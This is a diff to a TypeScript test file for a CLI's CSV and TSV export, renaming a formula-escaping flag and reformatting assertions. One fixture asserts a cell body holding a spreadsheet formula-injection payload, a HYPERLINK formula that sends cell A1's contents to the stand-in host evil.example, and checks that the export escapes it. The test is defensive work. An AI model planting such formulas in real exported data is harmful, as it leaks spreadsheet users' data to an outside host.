@@ -50,13 +50,11 @@ const TRICKY = path.join(ROOT, 'fixtures/variations/v25-csv-tricky-cells.txt');
 const HYPERLINK_BODY = readFileSync(TRICKY, 'utf8').split('\n')[4]!;
 
 describe('CSV and TSV read back give the NDJSON values', () => {
-  const cases = withRecords.flatMap(({ dump }) =>
-    (['csv', 'tsv'] as const).flatMap((format) => [true, false].map((escape) => ({ dump, format, escape }))),
-  );
-  it.each(cases)('$dump as $format (escape formulas: $escape)', async ({ dump, format, escape }) => {
+  const cases = withRecords.flatMap(({ dump }) => (['csv', 'tsv'] as const).flatMap((format) => [true, false].map((escapeFormulas) => ({ dump, format, escape: escapeFormulas }))));
+  it.each(cases)('$dump as $format (escape formulas: $escape)', async ({ dump, format, escape: escapeFormulas }) => {
     const file = path.join(ROOT, dump);
     const ndjson = await runCli([file]);
-    const table = await runCli(['-f', format, ...(escape ? [] : ['--no-escape-formulas']), file]);
+    const table = await runCli(['-f', format, ...(escapeFormulas ? [] : ['--no-escape-formulas']), file]);
     expect(table.code).toBe(ndjson.code);
     expect(table.stdout.split(/\r?\n/, 1)[0]).toBe(RECORD_KEYS.join(format === 'csv' ? ',' : '\t'));
     // An empty cell is both "no link" ([]) and "links unknown" (null, only the line copy): a table cannot tell them apart.
@@ -65,7 +63,7 @@ describe('CSV and TSV read back give the NDJSON values', () => {
       .split('\n')
       .map((line) => JSON.parse(line) as { links: string[] | null })
       .map((record) => ({ ...record, links: record.links ?? [] }));
-    expect(readTable(format, table.stdout, escape)).toEqual(records);
+    expect(readTable(format, table.stdout, escapeFormulas)).toEqual(records);
   });
 });
 
@@ -93,9 +91,7 @@ describe('CSV cells', () => {
   it('keeps a body with quotes, commas, a tab and line breaks in one quoted cell, formula escaped', async () => {
     const { stdout } = await runCli(['-f', 'csv', '--fields', 'body', TRICKY]);
     expect(HYPERLINK_BODY).toBe('=HYPERLINK("http://evil.example/?q="&A1, "click me")');
-    expect(stdout.split('\r\n')[1]).toBe(
-      `"'=HYPERLINK(""http://evil.example/?q=""&A1, ""click me"")\nthen, a ""quoted"" word, a\ttab and a back\\slash\n- dash list: -1 +2 @three"`,
-    );
+    expect(stdout.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?q=""&A1, ""click me"")\nthen, a ""quoted"" word, a\ttab and a back\\slash\n- dash list: -1 +2 @three"`);
   });
 
   it('quotes a body whose only special characters are line breaks (csv-stringify skips them when rows end in CRLF)', async () => {
